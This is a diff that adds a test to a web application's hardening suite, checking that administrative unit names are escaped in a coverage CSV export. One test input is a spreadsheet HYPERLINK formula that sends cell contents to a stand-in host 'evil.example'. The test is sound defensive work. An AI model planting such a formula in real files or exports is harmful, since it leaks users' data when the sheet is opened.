@@ -153,6 +153,20 @@ describe('browser host hardening', () => {
     expect(save.error.code).toBe('BAD_REQUEST');
   });
 
+  it('writes imported names into the coverage CSV so a spreadsheet never runs them', async () => {
+    const admin = await signedIn('admin', 'admin-pass-1');
+    for (const [code, name] of [['99001', '=HYPERLINK("http://evil.example/?x="&A1,"Tỉnh")'], ['99002', '+Huyện'], ['99003', '@Xã']])
+      expect((await admin.api('units.save', { code, name, level: 'province', kind: null, parentId: null, validFrom: null, validTo: null })).ok).toBe(true);
+    const r = await request('/export/coverage.csv?at=2025-06-30', { headers: { ...bearer(), Cookie: admin.cookie } });
+    expect(r.status).toBe(200);
+    const lines = r.body.split('\r\n');
+    for (const [code, name] of [['99001', '=HYPERLINK'], ['99002', '+Huyện'], ['99003', '@Xã']]) {
+      const line = lines.find((l) => l.startsWith(`${code},`))!;
+      expect(line).toContain(`'${name}`);
+      expect(line.split(',').some((cell) => /^"?[=+@]/.test(cell))).toBe(false);
+    }
+  });
+
   it('keeps the watched folder per unit and in the administrator\'s hands', async () => {
     const staff = await signedIn('vanthu', 'vanthu-pass-1');
     const dir = tempDir();
